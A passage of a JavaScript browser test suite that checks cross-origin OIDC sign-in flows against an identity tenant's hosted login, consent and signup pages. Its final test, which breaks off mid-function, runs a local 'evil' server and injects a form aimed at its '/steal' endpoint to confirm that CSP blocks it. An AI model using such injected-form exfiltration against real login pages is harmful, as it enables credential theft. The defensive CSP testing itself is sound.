// Signing in to an application on another origin, in a real browser.
//
// The hosted login, signup and consent pages post forms that the tenant
// answers with a redirect to the application's redirect_uri (or, for
// response_mode=form_post, with a page that posts the tokens there). CSP
// `form-action` governs those redirects too, so the pages allow the origin
// of the validated redirect_uri besides 'self'; before that, Chromium
// blocked the redirect and an application off the tenant's origin never got
// its tokens. sign-in-browser.test.mjs only uses callbacks on the tenant's
// own origin, so this file puts a relying party (RP) on its own port: a
// small Node server whose pages do what a real SPA there would (fresh
// state and nonce in sessionStorage, a link to /authorize, a /callback that
// checks the state, and /userinfo called cross-origin with the access
// token). Every test checks that the tokens reached the RP and verifies them
// against the tenant's JWKS; the last one checks that the CSP still refuses
// a form aimed at any third origin.
//
// A redirect that CSP blocks leaves the hosted page in place and logs
// "Sending form data to ... violates ... form-action"; the helpers fail on
// that at once, and the successful flows assert no console error at all.
//
// 127.0.0.1 on different ports is one site but three origins: CSP, CORS and
// the tenant's Origin check all work on origins, which is what is tested
// here. Cookies ignore ports (the RP's server even receives the tenant's
// cookies), so nothing here is about SameSite or third-party cookies.
//
// One tenant, one RP, one "evil" server and one Chromium for the file;
// every test gets its own browser context, so cookies and storage start
// empty.

import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import http from 'node:http';
import { after, before, test } from 'node:test';

import { jwtVerify } from 'jose';
import { chromium } from 'playwright-core';

import { CHROMIUM_OPTIONS, screenshot } from './browser.mjs';
import {
  api,
  createApi,
  createUser,
  mgmtToken,
  randomEmail,
  randomName,
  randomPassword,
  registerClient,
  setDynamicRegistration,
  sleep,
  startTenant,
  tenantJwks,
} from './harness.mjs';

/** How long a step may take to show (a login costs a PBKDF2 hash). */
const UI_TIMEOUT = 20_000;
/** Where the RP keeps its pending sign-in, as a real SPA would. */
const PENDING_KEY = 'rp.pending';
/** What a browser's refusal looks like in page.problems. */
const CSP_PROBLEM = /securitypolicyviolation|Content Security Policy|Refused to/i;

let tenant;
let adminToken;
let rp; // the relying party: { origin, callback, posts, close }
let evil; // a third origin that records whatever reaches it
let chromiumBrowser;

// ---------------------------------------------------------------------------
// The relying party and the "evil" server

function escapeHtml(text) {
  return String(text)
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;');
}

/** A value inlined into a <script> as a JS literal. */
function scriptLiteral(value) {
  return JSON.stringify(value).replace(/</g, '\\u003c');
}

const RP_STYLE = 'body{font-family:system-ui,sans-serif;margin:2rem;max-width:60rem}pre{white-space:pre-wrap;word-break:break-all;background:#f0f2f5;padding:.75rem;border-radius:6px}';

function htmlPage(title, body) {
  return `<!doctype html>\n<html lang="en"><head><meta charset="utf-8"><title>${escapeHtml(title)}</title><style>${RP_STYLE}</style></head><body>${body}</body></html>`;
}

/**
 * The RP's home page. Its script makes a fresh state and nonce, keeps them
 * in sessionStorage and renders a "Sign in" link to the tenant's
 * /authorize. The page's own query string says which client and what to
 * ask for: client_id, and optionally scope, audience, response_type,
 * response_mode, prompt and organization.
 */
function rpHome(tenantBaseUrl) {
  return htmlPage(
    'Relying party',
    `<h1>A relying party on another origin</h1>
<script>
const TENANT = ${scriptLiteral(tenantBaseUrl)};
const KEY = ${scriptLiteral(PENDING_KEY)};
function random() {
  const bytes = new Uint8Array(32);
  crypto.getRandomValues(bytes);
  return btoa(String.fromCharCode(...bytes)).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
}
const asked = new URLSearchParams(location.search);
const pending = { state: random(), nonce: random() };
sessionStorage.setItem(KEY, JSON.stringify(pending));
const request = new URLSearchParams({
  response_type: asked.get('response_type') || 'id_token token',
  client_id: asked.get('client_id'),
  redirect_uri: location.origin + '/callback',
  scope: asked.get('scope') || 'openid profile email',
  state: pending.state,
  nonce: pending.nonce,
});
for (const name of ['audience', 'response_mode', 'prompt', 'organization']) {
  if (asked.get(name)) request.set(name, asked.get(name));
}
const link = document.createElement('a');
link.dataset.testid = 'rp-sign-in';
link.href = TENANT + '/authorize?' + request;
link.textContent = 'Sign in';
document.body.append(link);
</script>`,
  );
}

/**
 * The RP's callback for the fragment response mode. Its script reads the
 * fragment, removes it from the address bar, uses up the pending sign-in,
 * refuses a missing or different state, and shows either
 * `rp-received` (the parameters as JSON) or `rp-error` ({ reason, params }).
 * With an access token it then calls the tenant's /userinfo from this
 * origin and shows `rp-userinfo` or `rp-userinfo-error`.
 */
function rpCallback(tenantBaseUrl) {
  return htmlPage(
    'Relying party: callback',
    `<h1>Callback</h1>
<script>
const TENANT = ${scriptLiteral(tenantBaseUrl)};
const KEY = ${scriptLiteral(PENDING_KEY)};
function show(testid, value) {
  const heading = document.createElement('h2');
  heading.textContent = testid;
  document.body.append(heading);
  const pre = document.createElement('pre');
  pre.dataset.testid = testid;
  pre.textContent = JSON.stringify(value, null, 1);
  document.body.append(pre);
}
const params = Object.fromEntries(new URLSearchParams(location.hash.slice(1)));
history.replaceState(null, '', location.pathname);
const pending = JSON.parse(sessionStorage.getItem(KEY) || 'null');
sessionStorage.removeItem(KEY);
if (pending === null) {
  show('rp-error', { reason: 'no sign-in in progress', params });
} else if (params.state !== pending.state) {
  show('rp-error', { reason: 'state mismatch', params });
} else if (params.error) {
  show('rp-error', { reason: 'authorization error', params });
} else {
  show('rp-received', params);
  if (params.access_token) {
    fetch(TENANT + '/userinfo', { headers: { authorization: 'Bearer ' + params.access_token } })
      .then(async (res) => {
        const body = await res.text();
        if (res.ok) show('rp-userinfo', JSON.parse(body));
        else show('rp-userinfo-error', { status: res.status, body, challenge: res.headers.get('www-authenticate') });
      })
      .catch((err) => show('rp-userinfo-error', { message: String(err) }));
  }
}
</script>`,
  );
}

function readBody(req) {
  return new Promise((resolve, reject) => {
    const chunks = [];
    req.on('data', (chunk) => chunks.push(chunk));
    req.on('error', reject);
    req.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));
  });
}

/** An HTTP server on a free port of 127.0.0.1: `{ origin, close }`. */
async function listen(handler) {
  const server = http.createServer((req, res) => {
    handler(req, res).catch((err) => {
      res.writeHead(500, { 'content-type': 'text/plain' });
      res.end(String(err));
    });
  });
  await new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', resolve);
  });
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

function send(res, status, html) {
  res.writeHead(status, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
  res.end(html);
}

/**
 * The relying party. `posts` records every form posted to /callback
 * (response_mode=form_post): `{ fields, headers }`.
 */
async function startRp(tenantBaseUrl) {
  const posts = [];
  const server = await listen(async (req, res) => {
    const { pathname } = new URL(req.url, 'http://rp');
    if (req.method === 'GET' && pathname === '/') return send(res, 200, rpHome(tenantBaseUrl));
    if (req.method === 'GET' && pathname === '/callback') return send(res, 200, rpCallback(tenantBaseUrl));
    if (req.method === 'POST' && pathname === '/callback') {
      const fields = Object.fromEntries(new URLSearchParams(await readBody(req)));
      posts.push({ fields, headers: req.headers });
      return send(
        res,
        200,
        htmlPage('Relying party: form_post', `<h1>Received by form post</h1><pre data-testid="rp-form-post">${escapeHtml(JSON.stringify(fields, null, 1))}</pre>`),
      );
    }
    if (pathname === '/favicon.ico') {
      res.writeHead(204);
      return res.end();
    }
    return send(res, 404, htmlPage('Not found', '<h1>Not found</h1>'));
  });
  return { ...server, callback: `${server.origin}/callback`, posts };
}

/** A server on a third origin that records every request it receives. */
async function startEvil() {
  const received = [];
  const server = await listen(async (req, res) => {
    received.push({ method: req.method, url: req.url, body: await readBody(req) });
    send(res, 200, htmlPage('Evil', '<h1 data-testid="evil-page">Thanks for the data</h1>'));
  });
  return { ...server, received };
}

// ---------------------------------------------------------------------------
// Browser helpers

/**
 * A fresh context and page. `page.problems` collects script errors, console
 * errors and any CSP violation (an init script, which CSP does not govern,
 * reports every `securitypolicyviolation` event as a console error);
 * `page.commits` counts main-frame navigations, `page.committed` their URLs;
 * `page.documents` keeps every main-frame document response.
 */
async function freshPage() {
  const context = await chromiumBrowser.newContext();
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(
        `securitypolicyviolation: ${event.effectiveDirective} refused ${event.blockedURI} on ${location.origin}${location.pathname}`,
      );
    });
  });
  const page = await context.newPage();
  page.problems = [];
  page.commits = 0;
  page.committed = [];
  page.documents = [];
  page.on('pageerror', (err) => page.problems.push(`pageerror: ${err}`));
  page.on('console', (msg) => {
    if (msg.type() === 'error') page.problems.push(`console: ${msg.text()} (${msg.location()?.url ?? ''})`);
  });
  page.on('framenavigated', (frame) => {
    if (frame !== page.mainFrame()) return;
    page.commits += 1;
    page.committed.push(frame.url());
  });
  page.on('response', (response) => {
    if (response.request().isNavigationRequest() && response.frame() === page.mainFrame()) page.documents.push(response);
  });
  return { context, page };
}

/** Every page a step can end on, the most telling first. */
const OUTCOMES = [
  'rp-received',
  'rp-error',
  'rp-form-post',
  'error-page',
  'login-error',
  'signup-error',
  'consent-form',
  'signup-form',
  'login-form',
];

async function text(page, testId) {
  return (await page.getByTestId(testId).first().textContent()).trim();
}

async function shownOutcome(page) {
  try {
    for (const id of OUTCOMES) {
      if ((await page.getByTestId(id).count()) > 0) return id;
    }
  } catch {
    // A navigation replaced the document while it was being read.
  }
  return null;
}

/**
 * Does `action`, then waits until a page committed after it shows one of
 * `OUTCOMES`, and fails at once, saying what the person sees, if that is
 * not `expected`, or if the browser refused something on the way (the
 * redirect that CSP blocks leaves the old page in place: that must read
 * as a refusal, not as a 20-second timeout).
 */
async function expectAfter(page, action, expected) {
  const since = page.commits;
  await action();
  const deadline = Date.now() + UI_TIMEOUT;
  for (;;) {
    const refused = page.problems.find((p) => CSP_PROBLEM.test(p));
    if (refused) {
      throw new Error(`waiting for ${expected} at ${page.url()}: the browser refused something: ${refused}`);
    }
    const shown = page.commits > since ? await shownOutcome(page) : null;
    if (shown === expected) return;
    if (shown !== null) {
      const detail =
        shown === 'error-page' ? `${await text(page, 'error-code')}: ${await text(page, 'error-description')}` : await text(page, shown);
      throw new Error(`expected ${expected} but ${page.url()} shows ${shown}: ${detail}`);
    }
    if (Date.now() > deadline) {
      throw new Error(
        `waiting for ${expected}: nothing known appeared within ${UI_TIMEOUT / 1000}s; the page is ${page.url()} ` +
          `(navigations: ${page.committed.join(' -> ')}; problems: ${JSON.stringify(page.problems)})`,
      );
    }
    await sleep(100);
  }
}

/** The RP's home page for `params` (client_id, scope, audience, ...). */
function rpHomeUrl(params) {
  const query = new URLSearchParams();
  for (const [name, value] of Object.entries(params)) if (value !== undefined) query.set(name, value);
  return `${rp.origin}/?${query}`;
}

/**
 * Opens the RP's home page, reads the pending sign-in its script stored and
 * the link it rendered, and checks the link is a request to this tenant for
 * the RP's own callback. Returns `{ pending, href }` without clicking.
 */
async function openRp(page, params) {
  await page.goto(rpHomeUrl(params));
  const link = page.getByTestId('rp-sign-in');
  await link.waitFor({ timeout: UI_TIMEOUT });
  const pending = JSON.parse(await page.evaluate((key) => sessionStorage.getItem(key), PENDING_KEY));
  assert.ok(pending?.state && pending?.nonce, `the RP stored a pending sign-in: ${JSON.stringify(pending)}`);
  const href = await link.getAttribute('href');
  const request = new URL(href);
  assert.equal(request.origin + request.pathname, `${tenant.baseUrl}/authorize`);
  assert.equal(request.searchParams.get('client_id'), params.client_id);
  assert.equal(request.searchParams.get('redirect_uri'), rp.callback);
  assert.equal(request.searchParams.get('state'), pending.state);
  assert.equal(request.searchParams.get('nonce'), pending.nonce);
  return { pending, href };
}

/** Clicks the RP's sign-in link and expects the tenant's login page. */
async function clickSignInToLogin(page) {
  await expectAfter(page, () => page.getByTestId('rp-sign-in').click(), 'login-form');
  assert.equal(new URL(page.url()).origin, tenant.baseUrl, 'the login page is the tenant\'s');
  assert.equal(new URL(page.url()).pathname, '/u/login');
}

async function fillLogin(page, email, password) {
  await page.locator('[data-testid="login-form"] input[name="email"]').fill(email);
  await page.locator('[data-testid="login-form"] input[name="password"]').fill(password);
}

/** Submits the login form and waits for `expected` (default: the RP's callback). */
async function submitLogin(page, email, password, expected = 'rp-received') {
  await fillLogin(page, email, password);
  await expectAfter(page, () => page.getByTestId('login-submit').click(), expected);
}

/** What the RP's callback page shows: the parameters it received, parsed. */
async function rpReceived(page) {
  assert.equal(page.url(), rp.callback, 'on the RP callback, the fragment removed');
  return JSON.parse(await text(page, 'rp-received'));
}

/** What the RP got back from /userinfo, called from its origin. */
async function rpUserinfo(page) {
  const shown = page.getByTestId('rp-userinfo').or(page.getByTestId('rp-userinfo-error'));
  try {
    await shown.first().waitFor({ timeout: UI_TIMEOUT });
  } catch (err) {
    throw new Error(`the RP showed no /userinfo answer (${err.message.split('\n')[0]}); problems: ${JSON.stringify(page.problems)}`);
  }
  if ((await page.getByTestId('rp-userinfo-error').count()) > 0) {
    throw new Error(`/userinfo from the RP origin failed: ${await text(page, 'rp-userinfo-error')}`);
  }
  return JSON.parse(await text(page, 'rp-userinfo'));
}

/** RP's view of an error response: `{ reason, params }`. */
async function rpError(page) {
  return JSON.parse(await text(page, 'rp-error'));
}

/** OIDC Core §3.2.2.9: the left half of SHA-256 of the access token. */
function atHash(accessToken) {
  return crypto.createHash('sha256').update(accessToken, 'ascii').digest().subarray(0, 16).toString('base64url');
}

/**
 * Verifies what reached the RP as the RP (or its API) would: both tokens
 * against the tenant's JWKS, the ID token for this client and this
 * sign-in's nonce, the access token an RFC 9068 JWT for `audience` (or for
 * /userinfo only when no API was asked). Returns both payloads.
 */
async function verifyTokens(received, { clientId, nonce, audience }) {
  assert.equal(typeof received.id_token, 'string', `an ID token reached the RP: ${Object.keys(received)}`);
  assert.equal(typeof received.access_token, 'string', `an access token reached the RP: ${Object.keys(received)}`);
  assert.equal(received.token_type, 'Bearer');
  const jwks = await tenantJwks(tenant);
  const { payload: id } = await jwtVerify(received.id_token, jwks, {
    issuer: tenant.issuer,
    audience: clientId,
    algorithms: ['RS256'],
  });
  assert.equal(id.aud, clientId);
  assert.equal(id.nonce, nonce, 'the ID token answers this sign-in');
  assert.equal(id.at_hash, atHash(received.access_token), 'the ID token is bound to this access token');
  const { payload: access, protectedHeader } = await jwtVerify(received.access_token, jwks, {
    issuer: tenant.issuer,
    audience: audience ?? `${tenant.issuer}userinfo`,
    algorithms: ['RS256'],
    typ: 'at+jwt',
  });
  assert.equal(protectedHeader.typ.toLowerCase(), 'at+jwt');
  if (audience !== undefined) {
    assert.ok([].concat(access.aud).includes(audience), `access token audiences ${JSON.stringify(access.aud)}`);
  }
  assert.equal(access.sub, id.sub);
  assert.equal(access.client_id, clientId);
  return { id, access };
}

function assertNoProblems(page) {
  assert.deepEqual(page.problems, [], 'no CSP violation, script error or console error on the way');
}

/** A CSP header as { directive: [sources] }. */
function cspDirectives(header) {
  const directives = {};
  for (const part of header.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) directives[name.toLowerCase()] = sources;
  }
  return directives;
}

/** The newest main-frame document answered 200 whose path is `pathname`. */
async function documentHeaders(page, pathname) {
  const response = page.documents.findLast((r) => r.status() === 200 && new URL(r.url()).pathname === pathname);
  assert.ok(response, `a ${pathname} document among ${page.documents.map((r) => `${r.status()} ${r.url()}`).join(', ')}`);
  return response.allHeaders();
}

/** A first-party SPA created with the Management API, its callback on the RP. */
async function createSpa() {
  const res = await api(tenant, adminToken, 'POST', '/api/v2/clients', {
    name: randomName('rp-spa'),
    app_type: 'spa',
    token_endpoint_auth_method: 'none',
    grant_types: ['implicit'],
    callbacks: [rp.callback],
    allowed_logout_urls: [`${rp.origin}/`],
    web_origins: [rp.origin],
  });
  assert.equal(res.status, 201, `create the RP's client: ${res.text}`);
  assert.equal(res.body.is_first_party, true);
  return res.body;
}

// ---------------------------------------------------------------------------

before(async () => {
  tenant = await startTenant();
  adminToken = await mgmtToken(tenant);
  rp = await startRp(tenant.baseUrl);
  evil = await startEvil();
  assert.notEqual(rp.origin, tenant.baseUrl);
  chromiumBrowser = await chromium.launch(CHROMIUM_OPTIONS);
});

after(async () => {
  await chromiumBrowser?.close();
  await rp?.close();
  await evil?.close();
  await tenant?.stop();
});

test('a first-party SPA on another origin signs a person in and calls /userinfo from there', async () => {
  const client = await createSpa();
  const resourceServer = await createApi(tenant, adminToken);
  const { user, email, password } = await createUser(tenant, adminToken);
  const { context, page } = await freshPage();
  try {
    const { pending } = await openRp(page, {
      client_id: client.client_id,
      audience: resourceServer.identifier,
      scope: 'openid profile email read:things',
    });
    await clickSignInToLogin(page);
    await screenshot(page, 'cross-origin-login');
    await submitLogin(page, email, password);

    const received = await rpReceived(page);
    assert.equal(received.state, pending.state);
    const { id, access } = await verifyTokens(received, {
      clientId: client.client_id,
      nonce: pending.nonce,
      audience: resourceServer.identifier,
    });
    assert.equal(id.sub, user.user_id);
    assert.equal(id.email, email);
    assert.ok(access.scope.split(' ').includes('read:things'), `access token scope ${access.scope}`);

    // The access token works from the RP's origin (CORS), for this person.
    const userinfo = await rpUserinfo(page);
    assert.equal(userinfo.email, email);
    assert.equal(userinfo.sub, user.user_id);
    await screenshot(page, 'cross-origin-rp-signed-in');

    assertNoProblems(page);
  } finally {
    await context.close();
  }
});

test('a member signs in to an organization from an SPA on another origin, and a non-member is refused there', async () => {
  const client = await createSpa();
  const patched = await api(tenant, adminToken, 'PATCH', `/api/v2/clients/${client.client_id}`, { organization_usage: 'require' });
  assert.equal(patched.status, 200, patched.text);
  const created = await api(tenant, adminToken, 'POST', '/api/v2/organizations', {
    name: randomName('customer'),
    display_name: 'Customer & Co',
  });
  assert.equal(created.status, 201, created.text);
  const organization = created.body;
  const member = await createUser(tenant, adminToken);
  const outsider = await createUser(tenant, adminToken);
  const added = await api(tenant, adminToken, 'POST', `/api/v2/organizations/${organization.id}/members`, {
    members: [member.user.user_id],
  });
  assert.equal(added.status, 204, added.text);
  const names = (allowed) =>
    api(tenant, adminToken, 'PATCH', '/api/v2/tenants/settings', { allow_organization_name_in_authentication_api: allowed });
  assert.equal((await names(true)).status, 200);
  try {
    const { context, page } = await freshPage();
    try {
      const { pending } = await openRp(page, { client_id: client.client_id, organization: organization.name });
      await clickSignInToLogin(page);
      // The login page says which organization the person signs in to.
      assert.equal(await text(page, 'organization'), '(Customer & Co)');
      await screenshot(page, 'cross-origin-organization-login');
      await submitLogin(page, member.email, member.password);
      const received = await rpReceived(page);
      const { id, access } = await verifyTokens(received, { clientId: client.client_id, nonce: pending.nonce });
      for (const claims of [id, access]) {
        assert.equal(claims.org_id, organization.id);
        assert.equal(claims.org_name, organization.name);
      }
      assert.equal(id.sub, member.user.user_id);
      assertNoProblems(page);
    } finally {
      await context.close();
    }

    // Someone who is not a member signs in, and the RP gets an error, no token.
    const { context: second, page: outside } = await freshPage();
    try {
      await openRp(outside, { client_id: client.client_id, organization: organization.id });
      await clickSignInToLogin(outside);
      await submitLogin(outside, outsider.email, outsider.password, 'rp-error');
      const { reason, params } = await rpError(outside);
      assert.equal(reason, 'authorization error');
      assert.equal(params.error, 'access_denied');
      assert.match(params.error_description, /not a member of the organization/);
      assert.equal(params.access_token, undefined);
      assert.equal(params.id_token, undefined);
    } finally {
      await second.close();
    }

    // Without an organization, this client's sign-ins are refused at the RP.
    const { context: third, page: refused } = await freshPage();
    try {
      await openRp(refused, { client_id: client.client_id });
      await expectAfter(refused, () => refused.getByTestId('rp-sign-in').click(), 'rp-error');
      const { params } = await rpError(refused);
      assert.equal(params.error, 'invalid_request');
      assert.equal(params.error_description, 'parameter organization is required for this client');
    } finally {
      await third.close();
    }
  } finally {
    assert.equal((await names(false)).status, 200);
  }
});

test('post-login actions add claims to the tokens an SPA on another origin receives, or deny the sign-in there', async () => {
  const client = await createSpa();
  const resourceServer = await createApi(tenant, adminToken);
  const { user, email, password } = await createUser(tenant, adminToken);
  const deploy = async (code) => {
    const created = await api(tenant, adminToken, 'POST', '/api/v2/actions/actions', {
      name: randomName('post-login'),
      supported_triggers: [{ id: 'post-login', version: 'v3' }],
      code,
      secrets: [{ name: 'ROLE', value: 'editor' }],
      deploy: true,
    });
    assert.equal(created.status, 201, created.text);
    return created.body;
  };
  const bind = async (...actions) => {
    const res = await api(tenant, adminToken, 'PATCH', '/api/v2/actions/triggers/post-login/bindings', {
      bindings: actions.map((action) => ({ ref: { type: 'action_id', value: action.id } })),
    });
    assert.equal(res.status, 200, res.text);
  };
  const roles = await deploy(`
    exports.onExecutePostLogin = async (event, api) => {
      api.idToken.setCustomClaim('https://example.com/roles', [event.secrets.ROLE]);
      api.idToken.setCustomClaim('https://example.com/email', event.user.email);
      api.accessToken.setCustomClaim('https://example.com/client', event.client.name);
    };`);
  const deny = await deploy(`
    exports.onExecutePostLogin = async (event, api) => {
      if (event.user.email === ${JSON.stringify(email)}) api.access.deny('Your account is under review');
    };`);
  try {
    await bind(roles);
    const { context, page } = await freshPage();
    try {
      const { pending } = await openRp(page, {
        client_id: client.client_id,
        audience: resourceServer.identifier,
        scope: 'openid email read:things',
      });
      await clickSignInToLogin(page);
      await submitLogin(page, email, password);
      const { id, access } = await verifyTokens(await rpReceived(page), {
        clientId: client.client_id,
        nonce: pending.nonce,
        audience: resourceServer.identifier,
      });
      assert.equal(id.sub, user.user_id);
      assert.deepEqual(id['https://example.com/roles'], ['editor']);
      assert.equal(id['https://example.com/email'], email);
      assert.equal(access['https://example.com/client'], client.name);
      assertNoProblems(page);
    } finally {
      await context.close();
    }

    await bind(roles, deny);
    const { context: second, page: denied } = await freshPage();
    try {
      await openRp(denied, { client_id: client.client_id });
      await clickSignInToLogin(denied);
      await submitLogin(denied, email, password, 'rp-error');
      const { params } = await rpError(denied);
      assert.equal(params.error, 'access_denied');
      assert.equal(params.error_description, 'Your account is under review');
      assert.equal(params.id_token, undefined);
    } finally {
      await second.close();
    }
  } finally {
    await bind();
  }
});

test('a new person signs up through the cross-origin flow and lands back at the RP', async () => {
  const client = await createSpa();
  const { context, page } = await freshPage();
  try {
    const { pending } = await openRp(page, { client_id: client.client_id });
    await clickSignInToLogin(page);
    await expectAfter(page, () => page.getByTestId('signup-link').click(), 'signup-form');
    assert.equal(new URL(page.url()).pathname, '/u/signup');
    const account = { email: randomEmail('rp-signup'), password: randomPassword() };
    await page.locator('[data-testid="signup-form"] input[name="email"]').fill(account.email);
    await page.locator('[data-testid="signup-form"] input[name="password"]').fill(account.password);
    await expectAfter(page, () => page.getByTestId('signup-submit').click(), 'rp-received');

    const received = await rpReceived(page);
    assert.equal(received.state, pending.state);
    const { id } = await verifyTokens(received, { clientId: client.client_id, nonce: pending.nonce });
    assert.equal(id.email, account.email);
    assert.match(id.sub, /^auth0\|/);

    const userinfo = await rpUserinfo(page);
    assert.equal(userinfo.email, account.email);
    assert.equal(userinfo.sub, id.sub);

    // The account really exists at the tenant.
    const found = await api(tenant, adminToken, 'GET', `/api/v2/users/${encodeURIComponent(id.sub)}`);
    assert.equal(found.status, 200, found.text);
    assert.equal(found.body.email, account.email);
    await screenshot(page, 'cross-origin-rp-signed-up');
    assertNoProblems(page);
  } finally {
    await context.close();
  }
});

test('a third-party app on another origin gets consent for its API, then tokens', async () => {
  await setDynamicRegistration(tenant, adminToken, true);
  const clientName = `RP Partner ${crypto.randomBytes(3).toString('hex')}`;
  const registration = await registerClient(tenant, {
    client_name: clientName,
    redirect_uris: [rp.callback],
    token_endpoint_auth_method: 'none',
    grant_types: ['implicit'],
    response_types: ['id_token token'],
  });
  assert.equal(registration.status, 201, registration.text);
  const clientId = registration.body.client_id;
  const resourceServer = await createApi(tenant, adminToken);
  const { user, email, password } = await createUser(tenant, adminToken);

  const { context, page } = await freshPage();
  try {
    const { pending } = await openRp(page, {
      client_id: clientId,
      audience: resourceServer.identifier,
      scope: 'openid email read:things',
    });
    await clickSignInToLogin(page);
    await submitLogin(page, email, password, 'consent-form');

    // The consent page names the API and where the tokens will go.
    assert.equal(new URL(page.url()).origin, tenant.baseUrl);
    const apiText = await text(page, 'consent-api');
    assert.ok(apiText.includes(resourceServer.name), `consent-api names the API: ${apiText}`);
    assert.ok(apiText.includes(resourceServer.identifier), `consent-api shows the identifier: ${apiText}`);
    const destination = await text(page, 'consent-destination');
    assert.ok(destination.includes(new URL(rp.origin).host), `consent-destination names ${new URL(rp.origin).host}: ${destination}`);
    const scopes = await page.locator('[data-testid="consent-scopes"] li').evaluateAll((items) => items.map((li) => li.dataset.scope));
    assert.deepEqual(scopes, ['openid', 'email', 'read:things']);
    // Its form may lead to the tenant and to the RP's origin, nowhere else.
    const consentPath = new URL(page.url()).pathname;
    const csp = cspDirectives((await documentHeaders(page, consentPath))['content-security-policy']);
    assert.deepEqual(csp['form-action'], ["'self'", rp.origin]);
    await screenshot(page, 'cross-origin-consent');

    await expectAfter(page, () => page.getByTestId('consent-accept').click(), 'rp-received');
    const received = await rpReceived(page);
    assert.equal(received.state, pending.state);
    const { id, access } = await verifyTokens(received, {
      clientId,
      nonce: pending.nonce,
      audience: resourceServer.identifier,
    });
    assert.equal(id.sub, user.user_id);
    assert.ok(access.scope.split(' ').includes('read:things'), `access token scope ${access.scope}`);
    const userinfo = await rpUserinfo(page);
    assert.equal(userinfo.email, email);
    await screenshot(page, 'cross-origin-consent-accepted');
    assertNoProblems(page);
  } finally {
    await context.close();
  }
});

test('response_mode=form_post delivers the tokens to the RP server with the state', async () => {
  const client = await createSpa();
  const resourceServer = await createApi(tenant, adminToken);
  const { user, email, password } = await createUser(tenant, adminToken);
  const postsBefore = rp.posts.length;
  const { context, page } = await freshPage();
  try {
    const { pending } = await openRp(page, {
      client_id: client.client_id,
      audience: resourceServer.identifier,
      response_mode: 'form_post',
    });
    await clickSignInToLogin(page);
    await submitLogin(page, email, password, 'rp-form-post');
    assert.equal(page.url(), rp.callback);

    const posts = rp.posts.slice(postsBefore);
    assert.equal(posts.length, 1, `the RP server received one form post: ${JSON.stringify(posts.map((p) => p.fields))}`);
    const { fields, headers } = posts[0];
    assert.equal(headers['content-type'], 'application/x-www-form-urlencoded');
    assert.equal(fields.state, pending.state, 'the state came back unchanged');
    assert.equal(fields.error, undefined);
    const { id } = await verifyTokens(fields, {
      clientId: client.client_id,
      nonce: pending.nonce,
      audience: resourceServer.identifier,
    });
    assert.equal(id.sub, user.user_id);
    // What the RP page shows is what the server received.
    assert.deepEqual(JSON.parse(await text(page, 'rp-form-post')), fields);
    await screenshot(page, 'cross-origin-form-post');
    assertNoProblems(page);
  } finally {
    await context.close();
  }
});

test('prompt=none goes straight back to the RP with a session, and says login_required without one', async () => {
  const client = await createSpa();
  const { user, email, password } = await createUser(tenant, adminToken);

  const { context, page } = await freshPage();
  try {
    // Signed in once in this context.
    const first = await openRp(page, { client_id: client.client_id });
    await clickSignInToLogin(page);
    await submitLogin(page, email, password);
    await verifyTokens(await rpReceived(page), { clientId: client.client_id, nonce: first.pending.nonce });

    // prompt=none: through /authorize and back, no tenant page.
    const navigations = [];
    page.on('request', (req) => req.isNavigationRequest() && navigations.push(req.url()));
    const second = await openRp(page, { client_id: client.client_id, prompt: 'none' });
    assert.notEqual(second.pending.state, first.pending.state, 'a fresh state for each sign-in');
    const commitsBefore = page.committed.length;
    await expectAfter(page, () => page.getByTestId('rp-sign-in').click(), 'rp-received');
    const received = await rpReceived(page);
    assert.equal(received.state, second.pending.state);
    const { id } = await verifyTokens(received, { clientId: client.client_id, nonce: second.pending.nonce });
    assert.equal(id.sub, user.user_id);
    assert.ok(
      navigations.some((u) => u.startsWith(`${tenant.baseUrl}/authorize?`)),
      `the browser went through the tenant's /authorize: ${navigations.join(', ')}`,
    );
    assert.ok(
      !navigations.some((u) => new URL(u).origin === tenant.baseUrl && new URL(u).pathname.startsWith('/u/')),
      `no hosted page on the way: ${navigations.join(', ')}`,
    );
    const shownSince = page.committed.slice(commitsBefore);
    assert.ok(
      shownSince.every((u) => new URL(u).origin === rp.origin),
      `every page shown was the RP's: ${shownSince.join(', ')}`,
    );
    assert.equal((await rpUserinfo(page)).email, email);
    assertNoProblems(page);
  } finally {
    await context.close();
  }

  // A fresh context has no session: the RP hears login_required.
  const fresh = await freshPage();
  try {
    const { pending } = await openRp(fresh.page, { client_id: client.client_id, prompt: 'none' });
    await expectAfter(fresh.page, () => fresh.page.getByTestId('rp-sign-in').click(), 'rp-error');
    assert.equal(fresh.page.url(), rp.callback);
    const { reason, params } = await rpError(fresh.page);
    assert.equal(reason, 'authorization error', 'the state matched; the tenant said no');
    assert.equal(params.error, 'login_required');
    assert.equal(params.state, pending.state);
    assert.equal(params.access_token, undefined);
    assert.equal(params.id_token, undefined);
    assert.ok(
      fresh.page.committed.every((u) => new URL(u).origin === rp.origin),
      `no tenant page was shown: ${fresh.page.committed.join(', ')}`,
    );
    assertNoProblems(fresh.page);
  } finally {
    await fresh.context.close();
  }
});

test("the login page's CSP allows the RP's origin and nothing else: a form aimed at a third origin is refused", async () => {
  const client = await createSpa();
  const { context, page } = await freshPage();
  try {
    await openRp(page, { client_id: client.client_id });
    await clickSignInToLogin(page);

    const header = (await documentHeaders(page, '/u/login'))['content-security-policy'];
    assert.ok(header, 'the login page has a Content-Security-Policy');
    const csp = cspDirectives(header);
    assert.deepEqual(csp['form-action'], ["'self'", rp.origin], `form-action in ${header}`);
    assert.deepEqual(csp['frame-ancestors'], ["'none'"], `frame-ancestors in ${header}`);
    assert.deepEqual(csp['script-src'], ["'none'"], `script-src in ${header}`);

    // A form aimed at a third origin, submitted from the login page (devtools
    // evaluation is not subject to script-src, so this stands for an
    // injected form): the browser must refuse it.
    const steal = `${evil.origin}/steal`;
    let violation;
    try {
      violation = await page.evaluate(
        (action) =>
          new Promise((resolve) => {
